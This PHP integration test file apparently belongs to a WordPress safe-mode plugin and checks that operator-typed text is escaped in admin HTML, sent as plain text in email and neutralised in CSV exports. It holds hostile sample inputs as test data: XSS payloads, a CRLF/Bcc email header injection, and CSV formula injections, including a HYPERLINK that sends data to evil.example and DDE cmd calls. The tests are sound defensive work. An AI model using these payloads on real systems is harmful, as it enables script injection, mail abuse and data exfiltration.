<?php

declare(strict_types=1);

namespace SophMate\SafeMode\Tests\integration\Security;

use SophMate\SafeMode\Cli\AuditCommand;
use SophMate\SafeMode\Cli\RestartCommand;
use SophMate\SafeMode\Notifications\Dispatcher;
use SophMate\SafeMode\Tests\integration\IntegrationTestCase;

require_once dirname(__DIR__) . '/Support/wp-cli-double.php';

/**
 * Text operators type (reasons, notes, labels, cleanup notes, incident links, webhook URLs) may
 * hold HTML, script, quotes and any script of the world's languages: it is stored exactly as
 * given and is only ever shown as text: escaped in HTML (notices, admin bar), plain text in
 * email, and never a formula in a CSV export.
 */
final class HostileTextTest extends IntegrationTestCase
{
    private const HOSTILE = '<script>alert("xss")</script><img src=x onerror="alert(1)"> "dbl" \'sgl\' & Ünïcødé ⚠ 支付 עברית';
    private const LABEL = '<b onmouseover="alert(2)">Marketing</b> "Ops" & Co ✓';
    private const NOTE = "<iframe src=\"javascript:alert(3)\"></iframe>\nRefund 'both' orders & check 💳";
    private const INCIDENT = 'https://status.example.test/i?q="><script>alert(4)</script>&x=\'y\'';
    private const WEBHOOK = 'https://hooks.example.test/h?a="><svg/onload=alert(5)>&b=\'c\'';

    /** Markup that would run or inject an element if any of the above were printed unescaped. */
    private const INJECTED = ['<script>alert', '<img src=x', '<b onmouseover', '<iframe', '<svg', 'onerror="alert', 'onload=alert'];

    private function assertNoInjectedMarkup(string $html, string $where): void
    {
        foreach (self::INJECTED as $needle) {
            self::assertStringNotContainsString($needle, $html, "{$where} printed {$needle} unescaped");
        }
    }

    public function test_every_kind_of_operator_text_round_trips_intact_through_rest(): void
    {
        $patch = $this->rest('PATCH', '/categories/marketing', [
            'label' => self::LABEL,
            'policy' => ['cleanup_notes' => self::NOTE],
            'notify' => ['emails' => [], 'webhooks' => [self::WEBHOOK]],
        ]);
        self::assertSame(200, $patch->get_status(), (string) wp_json_encode($this->data($patch)));
        $pause = $this->rest('POST', '/categories/marketing/pause', ['reason' => self::HOSTILE, 'incident_url' => self::INCIDENT]);
        self::assertSame(200, $pause->get_status(), (string) wp_json_encode($this->data($pause)));
        self::assertSame(200, $this->rest('PUT', '/notifications/settings', ['webhooks' => [self::WEBHOOK]])->get_status());
        \WP_CLI::reset();
        (new RestartCommand($this->services))(['category:marketing'], ['ack' => 'all-reviewed', 'max-runs' => '2', 'note' => self::NOTE]);

        $category = $this->data($this->rest('GET', '/categories/marketing'));
        self::assertSame(self::LABEL, $category['label']);
        self::assertSame(self::NOTE, $category['policy']['cleanup_notes']);
        self::assertSame([self::WEBHOOK], $category['notify']['webhooks']);
        $status = $this->data($this->rest('GET', '/status'));
        $row = array_values(array_filter($status['categories'], static fn ($c) => $c['slug'] === 'marketing'))[0];
        self::assertSame(self::LABEL, $row['label']);
        $audit = $this->data($this->rest('GET', '/audit', [], ['scope' => 'category:marketing', 'action' => 'pause']));
        self::assertSame(self::HOSTILE, $audit[0]['reason']);
        self::assertSame(self::INCIDENT, ((array) $audit[0]['context'])['incident_url']);
        $restart = $this->data($this->rest('GET', '/audit', [], ['scope' => 'category:marketing', 'action' => 'restart']));
        self::assertSame(self::NOTE, $restart[0]['reason']);
        self::assertSame([self::WEBHOOK], $this->data($this->rest('GET', '/notifications/settings'))['webhooks']);
        self::assertTrue($this->services->audit->verify()->ok, 'the chain hashes the text exactly as stored');

        // Labels of providers and admin-created automations, shown across the admin app.
        self::assertSame(201, $this->rest('PUT', '/providers/sec-hostile', ['label' => self::LABEL, 'hosts' => ['api.hostile.test']])->get_status());
        self::assertSame(self::LABEL, $this->data($this->rest('GET', '/providers/sec-hostile'))['label']);
        $created = $this->rest('POST', '/automations', ['id' => 'sec-hostile', 'label' => self::LABEL, 'kind' => 'workflow', 'category' => 'system', 'owner' => 'admin']);
        self::assertSame(201, $created->get_status(), (string) wp_json_encode($this->data($created)));
        self::assertSame(self::LABEL, $this->data($this->rest('GET', '/automations/sec-hostile'))['label']);
    }

    public function test_admin_notices_and_the_admin_bar_show_it_escaped(): void
    {
        require_once ABSPATH . WPINC . '/class-wp-admin-bar.php';
        $this->rest('PATCH', '/categories/marketing', ['label' => self::LABEL]);
        $this->rest('POST', '/categories/marketing/pause', ['reason' => self::HOSTILE, 'incident_url' => self::INCIDENT]);
        $this->rest('PUT', '/safe-mode', ['mode' => 'paused', 'reason' => self::HOSTILE]);
        $this->forget_caches();

        ob_start();
        do_action('admin_notices');
        $notices = (string) ob_get_clean();
        self::assertStringContainsString('&lt;script&gt;alert(', $notices, 'the reason is shown, as text');
        self::assertStringContainsString('Ünïcødé ⚠ 支付 עברית', $notices, 'unicode shown as is');
        self::assertNoInjectedMarkup($notices, 'admin notices');
        self::assertStringNotContainsString('"><script>', $notices, 'the incident link stays inside its attribute');

        $bar = new \WP_Admin_Bar();
        $bar->initialize();
        do_action_ref_array('admin_bar_menu', [&$bar]);
        ob_start();
        $bar->render();
        $html = (string) ob_get_clean();
        self::assertStringContainsString('Safe mode: &lt;script&gt;', $html);
        self::assertNoInjectedMarkup($html, 'admin bar');

        // The Plugins screen's warning row names paused categories by label.
        ob_start();
        do_action('after_plugin_row_sophmate-safe-mode/plugin.php', 'sophmate-safe-mode/plugin.php', [], 'all');
        $row = (string) ob_get_clean();
        self::assertStringContainsString('&lt;b onmouseover=', $row, 'the label is shown, as text');
        self::assertNoInjectedMarkup($row, 'plugins screen warning');
    }

    public function test_notification_emails_carry_it_as_plain_text_with_a_one_line_subject(): void
    {
        $log = (string) self::site()['mail_log'];
        clearstatcache();
        $offset = is_file($log) ? (int) filesize($log) : 0;
        $this->rest('PUT', '/notifications/settings', ['emails' => ['ops@example.test'], 'webhooks' => []]);
        $reason = self::HOSTILE . "\r\nBcc: victim@example.test";
        self::assertSame(200, $this->rest('POST', '/categories/marketing/pause', ['reason' => $reason, 'incident_url' => self::INCIDENT])->get_status());
        do_action(Dispatcher::RETRY_HOOK);

        clearstatcache();
        $lines = array_filter(explode("\n", (string) file_get_contents($log, false, null, $offset)));
        $mails = array_values(array_filter(array_map(static fn ($l) => json_decode($l, true), $lines), static fn ($m) => in_array('ops@example.test', $m['to'] ?? [], true)));
        self::assertCount(1, $mails);
        $mail = $mails[0];
        self::assertSame(['ops@example.test'], $mail['to'], 'no recipient smuggled in through the reason');
        self::assertStringNotContainsString("\n", $mail['subject']);
        self::assertStringNotContainsString("\r", $mail['subject']);
        self::assertStringContainsString(self::HOSTILE, $mail['message'], 'plain text: the reason as typed');
        self::assertStringContainsString(self::INCIDENT, $mail['message']);
        foreach ($mail['headers'] as $header) {
            self::assertStringNotContainsStringIgnoringCase('text/html', $header, 'never sent as HTML');
            self::assertStringNotContainsStringIgnoringCase('victim@', $header);
        }
    }

    public function test_csv_exports_turn_formula_cells_into_text(): void
    {
        $formulas = [
            'commerce' => '=HYPERLINK("http://evil.example/?d="&A1,"open")',
            'content' => '+1+cmd|\' /C calc\'!A0',
            'support' => '-2+3',
            'system' => '@SUM(1+1)',
            // (A leading tab is trimmed from reasons; CsvCellTest covers tab and carriage return.)
            'image' => '=cmd|\' /C notepad\'!A0',
        ];
        foreach ($formulas as $slug => $reason) {
            self::assertSame(200, $this->rest('POST', "/categories/{$slug}/pause", ['reason' => $reason])->get_status(), $slug);
        }
        $this->rest('POST', '/categories/marketing/pause', ['reason' => self::HOSTILE]);

        $response = $this->rest('GET', '/audit', [], ['format' => 'csv']);
        self::assertSame(200, $response->get_status());
        self::assertStringStartsWith('text/csv', $response->get_headers()['Content-Type']);
        $rows = array_map('str_getcsv', array_values(array_filter(explode("\n", (string) $response->get_data()))));
        $header = array_shift($rows);
        $by_scope = array_column(array_map(static fn ($r) => array_combine($header, $r), $rows), 'reason', 'scope');
        foreach ($formulas as $slug => $reason) {
            self::assertSame("'" . $reason, $by_scope["category:{$slug}"], "{$slug}: prefixed with an apostrophe");
        }
        self::assertSame(self::HOSTILE, $by_scope['category:marketing'], 'text that is no formula is left intact');

        \WP_CLI::reset();
        (new AuditCommand($this->services))->list_([], ['format' => 'csv']);
        $cli = array_column(\WP_CLI::$formatted[0]['rows'], 'reason', 'scope');
        foreach ($formulas as $slug => $reason) {
            self::assertSame("'" . $reason, $cli["category:{$slug}"], "wp sophmate audit list --format=csv: {$slug}");
        }
        \WP_CLI::reset();
        (new AuditCommand($this->services))->list_([], ['format' => 'json']);
        self::assertSame($formulas['commerce'], array_column(\WP_CLI::$formatted[0]['rows'], 'reason', 'scope')['category:commerce'], 'JSON keeps the text as typed');
    }
}
